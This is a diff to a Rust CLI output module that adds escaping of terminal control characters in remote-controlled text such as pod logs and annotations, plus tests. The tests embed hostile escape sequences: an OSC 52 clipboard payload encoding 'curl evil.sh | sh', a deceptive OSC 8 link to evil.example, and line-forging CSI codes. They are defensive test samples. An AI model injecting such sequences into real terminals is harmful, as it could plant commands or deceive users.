@@ -1,4 +1,6 @@
-//! Output helpers shared by the plugins: logging set-up and output formats.
+//! Output helpers shared by the plugins: logging set-up, output formats, and
+//! the one place that makes text a remote party controls (pod logs, Lease
+//! annotations, event messages) safe to write to a terminal.
 
 use tracing_subscriber::EnvFilter;
 
@@ -91,7 +93,7 @@ macro_rules! out {
 
 /// Prints `error: …` to stderr and gives the exit code for a failed command.
 pub fn report(err: &(dyn std::error::Error + 'static)) -> std::process::ExitCode {
-    stderr_line(&format!("error: {}", error_chain(err)));
+    stderr_line(&terminal_text(&format!("error: {}", error_chain(err))));
     std::process::ExitCode::FAILURE
 }
 
@@ -123,6 +125,121 @@ mod tests {
         );
         let e = Push(std::io::Error::other("connection refused"));
         assert_eq!(error_chain(&e), "push failed: connection refused");
+    }
+}
+
+/// `text` made safe for a terminal: every control character but tab and
+/// newline (C0, DEL, and the C1 range U+0080–U+009F, which some terminals
+/// read as CSI/OSC/…) is shown as a visible escape (`\x1b`, `\u{9b}`), so
+/// a workload cannot move the cursor, rewrite the screen, set the clipboard
+/// (OSC 52) or plant hyperlinks (OSC 8) in the user's terminal. Anything
+/// else, printable Unicode included, is kept as it is. For every non-JSON
+/// output of text that others control; `-o json` keeps the bytes.
+pub fn terminal_text(text: &str) -> std::borrow::Cow<'_, str> {
+    escape_controls(text, true)
+}
+
+/// [`terminal_text`] for one line or table cell: newlines are escaped too
+/// (`\n`), so the text cannot forge a line of its own.
+pub fn terminal_line(text: &str) -> std::borrow::Cow<'_, str> {
+    escape_controls(text, false)
+}
+
+/// Whether `c` is neutralised by [`terminal_text`] (`newlines`: kept).
+fn is_unsafe(c: char, newlines: bool) -> bool {
+    match c {
+        '\t' => false,
+        '\n' => !newlines,
+        c => c.is_control(),
+    }
+}
+
+fn escape_controls(text: &str, newlines: bool) -> std::borrow::Cow<'_, str> {
+    if !text.chars().any(|c| is_unsafe(c, newlines)) {
+        return std::borrow::Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len() + 8);
+    for c in text.chars() {
+        if !is_unsafe(c, newlines) {
+            out.push(c);
+        } else if c == '\n' {
+            out.push_str("\\n");
+        } else if c == '\r' {
+            out.push_str("\\r");
+        } else if (c as u32) < 0x80 {
+            out.push_str(&format!("\\x{:02x}", c as u32));
+        } else {
+            out.push_str(&format!("\\u{{{:x}}}", c as u32));
+        }
+    }
+    std::borrow::Cow::Owned(out)
+}
+
+#[cfg(test)]
+mod terminal_tests {
+    use super::*;
+
+    /// No byte a terminal acts on is left: ESC, CSI (C1 U+009B), OSC (U+009D), BEL, CR.
+    fn inert(s: &str) -> bool {
+        !s.chars().any(|c| c.is_control() && c != '\t' && c != '\n')
+    }
+
+    #[test]
+    fn plain_text_is_kept_as_it_is() {
+        for s in ["listening on :8080", "tab\there", "été ✓ 日本", ""] {
+            assert!(
+                matches!(terminal_text(s), std::borrow::Cow::Borrowed(_)),
+                "{s}"
+            );
+            assert_eq!(terminal_line(s), s);
+        }
+        assert_eq!(terminal_text("a\nb"), "a\nb");
+        assert_eq!(terminal_line("a\nb"), "a\\nb");
+    }
+
+    #[test]
+    fn escape_sequences_are_shown_not_obeyed() {
+        let cases = [
+            // OSC 52: set the clipboard.
+            (
+                "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
+                "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07",
+            ),
+            // OSC 8: a hyperlink whose text lies about its target.
+            (
+                "\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\",
+                "\\x1b]8;;https://evil.example\\x1b\\docs\\x1b]8;;\\x1b\\",
+            ),
+            // CSI: cursor up and erase the line, colours.
+            ("ok\x1b[1A\x1b[2Kfaked", "ok\\x1b[1A\\x1b[2Kfaked"),
+            ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
+            // A lone ESC, at the end.
+            ("end\x1b", "end\\x1b"),
+            // C1 controls as UTF-8 characters: CSI (U+009B), OSC (U+009D), ST (U+009C).
+            (
+                "\u{9b}2J\u{9d}0;title\u{9c}",
+                "\\u{9b}2J\\u{9d}0;title\\u{9c}",
+            ),
+            // Carriage return overwrites the line; backspace, NUL, DEL.
+            ("safe\rEVIL", "safe\\rEVIL"),
+            ("a\x08\x00\x7fb", "a\\x08\\x00\\x7fb"),
+        ];
+        for (raw, shown) in cases {
+            let t = terminal_text(raw);
+            assert_eq!(t, shown, "{raw:?}");
+            assert!(inert(&t), "{t:?}");
+            assert!(inert(&terminal_line(raw)), "{raw:?}");
+        }
+    }
+
+    #[test]
+    fn table_cells_cannot_break_out() {
+        let t = table(
+            &["NAME", "NOTE"],
+            &[vec!["a".into(), "x\x1b]52;c;aGk=\x07\nforged   row".into()]],
+        );
+        assert!(inert(&t.replace('\n', "")), "{t:?}");
+        assert_eq!(t.lines().count(), 2, "{t}");
     }
 }
 
@@ -164,6 +281,12 @@ pub fn table_with(
     with_headers: bool,
     colour: Option<Colouring<'_>>,
 ) -> String {
+    // Cells hold text others control (notes, owners): shown, never obeyed.
+    let rows: Vec<Vec<String>> = rows
+        .iter()
+        .map(|r| r.iter().map(|c| terminal_line(c).into_owned()).collect())
+        .collect();
+    let rows = rows.as_slice();
     let mut widths: Vec<usize> = headers.iter().map(|h| h.len()).collect();
     for row in rows {
         for (i, cell) in row.iter().enumerate() {
